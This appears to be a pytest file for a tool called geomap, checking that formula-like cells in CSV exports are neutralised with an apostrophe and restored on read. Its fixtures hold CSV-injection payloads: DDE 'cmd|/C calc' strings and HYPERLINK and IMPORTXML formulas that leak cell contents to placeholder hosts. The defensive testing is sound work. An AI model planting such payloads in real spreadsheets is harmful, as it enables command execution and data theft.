"""CSV injection: text from reports and tables that a spreadsheet would run as a formula is
written with a leading apostrophe (OWASP), in every CSV geomap writes, and read back as
it was."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest

from tests.hostile.conftest import assert_outcome, geomap

FORMULAS = {
    "actor1": '=HYPERLINK("http://example.invalid/?leak="&A1,"Details")',
    "actor2": "+cmd|' /C calc'!A0",
    "notes": "-2+3+cmd|' /C calc'!A0",
    "source": "@SUM(1+1)*cmd|' /C calc'!A0",
    "admin1": "\t=1+1",
    "admin2": "\r=1+1",
}
NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def _table(folder: Path) -> Path:
    path = folder / "hostile.csv"
    columns = ["event_id_cnty", "event_date", "event_type", "sub_event_type", "country",
               "location", "latitude", "longitude", "fatalities", *FORMULAS]  # fmt: skip
    row = ["IRQ9", "2024-03-03", "Battles", "Armed clash", "Iraq", "Hit", "33.64", "42.83", "1",
           *FORMULAS.values()]  # fmt: skip
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(columns)
        writer.writerow(row)
    return path


def _assert_no_formula(path: Path) -> None:
    """Open the CSV as a spreadsheet user would with pandas: no cell may start a formula."""
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    for column in frame.columns:
        for cell in frame[column]:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert NUMBER.fullmatch(cell), f"{path.name}, {column}: {cell!r}"


def test_formulas_are_neutralised_in_every_csv(mini: Path, reports: Path, tmp_path: Path) -> None:
    _table(reports)
    (reports / "quote.md").write_text(
        "---\npublished: 2024-03-05\nsource: \"=IMPORTXML(CONCAT('http://x/?', A1), '//a')\"\n"
        "---\n=1+1 A car bomb exploded in Mosul on Monday, killing four people.\n",
        encoding="utf-8",
    )
    out = tmp_path / "out"
    assert_outcome(geomap("run", reports, "-o", out, "--formats", "geojson,csv"), out, status=0)
    _assert_no_formula(out / "incidents.csv")
    frame = pd.read_csv(out / "incidents.csv", dtype=str, keep_default_na=False)
    (row,) = frame[frame["incident_id"] == "IRQ9"].to_dict("records")
    assert row["actor1"] == "'" + FORMULAS["actor1"]  # the guard, and the text intact
    acled = tmp_path / "acled.csv"
    assert geomap("export", out / "incidents.csv", "-o", acled, "--schema", "acled").status == 0
    _assert_no_formula(acled)
    printed = tmp_path / "printed.csv"
    done = geomap("incidents", reports, "--format", "acled", "-o", printed)
    assert done.status == 0, done.output
    _assert_no_formula(printed)


@pytest.mark.parametrize("name", ["incidents.csv", "acled.csv"])
def test_the_guard_is_undone_when_read_back(
    mini: Path, reports: Path, tmp_path: Path, name: str
) -> None:
    from geomap import read_incidents

    _table(reports)
    out = tmp_path / "out"
    assert geomap("run", reports, "-o", out, "--formats", "geojson,csv").status == 0
    path = out / "incidents.csv"
    if name == "acled.csv":
        path = tmp_path / name
        assert geomap("export", out / "incidents.csv", "-o", path, "--schema", "acled").status == 0
    frame = read_incidents(path)
    (row,) = frame[frame["incident_id"] == "IRQ9"].to_dict("records")
    assert row["actor1"] == FORMULAS["actor1"]
    assert row["actor2"] == FORMULAS["actor2"]
    assert row["quote"] == FORMULAS["notes"]
    assert row["admin1"] == FORMULAS["admin1"].strip()  # the reader strips cells
